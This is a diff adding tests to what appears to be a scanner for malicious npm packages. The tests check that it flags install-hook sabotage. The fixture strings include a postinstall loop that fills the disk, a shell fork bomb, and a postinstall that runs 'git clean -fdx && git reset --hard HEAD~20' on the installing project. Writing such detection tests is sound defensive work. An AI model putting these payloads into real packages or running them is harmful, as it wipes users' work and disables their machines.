@@ -1742,3 +1742,44 @@ document.addEventListener('paste', (e) => { const t = e.clipboardData.getData('t
     ).toEqual([]);
   });
 });
+
+describe('sabotage: hangs, fork bombs and git history thrown away', () => {
+  it('a top-level for (;;) that fills the disk from a postinstall file', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node post.js' } }),
+      'post.js': `const fs = require('fs'); const os = require('os'); const path = require('path');
+const big = Buffer.alloc(1 << 26, 0);
+const dir = path.join(os.homedir(), '.cache', '.tmp');
+for (let i = 0; ; i++) fs.writeFileSync(path.join(dir, String(i)), big);`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.hangs-on-load')?.line).toBe(4);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a fork bomb in an install script and git clean -fdx on the installing project', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { preinstall: 'sh run.sh', postinstall: 'node post.js' } }),
+      'run.sh': '#!/bin/sh\nbomb(){ bomb|bomb& };bomb\n',
+      'post.js': `const { execSync } = require('child_process');
+if (process.env.INIT_CWD) execSync('git clean -fdx && git reset --hard HEAD~20', { cwd: process.env.INIT_CWD, stdio: 'ignore' });`,
+    });
+    const messages = r.evidence
+      .filter((f) => 'threat_type' in f && f.threat_type === 'malicious_code')
+      .map((f) => f.message);
+    expect(messages.some((m) => /fork bomb/.test(m))).toBe(true);
+    expect(messages.some((m) => /discards the project's work/.test(m))).toBe(true);
+  });
+  it('loops that break, await or wait, a loop inside a function, and git clean in a release script are not', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ bin: { rel: 'release.sh' } }),
+      'index.js': `let n = 0;
+while (true) { if (++n > 10) break; }
+for (;;) { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); }
+function serve() { for (;;) { tick(); } }
+module.exports = serve;`,
+      'release.sh': '#!/bin/sh\ngit clean -fdx\nnpm publish\n',
+    });
+    expect(
+      r.evidence.filter((f) => f.rule === 'js.hangs-on-load' || f.rule === 'script.destructive'),
+    ).toEqual([]);
+  });
+});
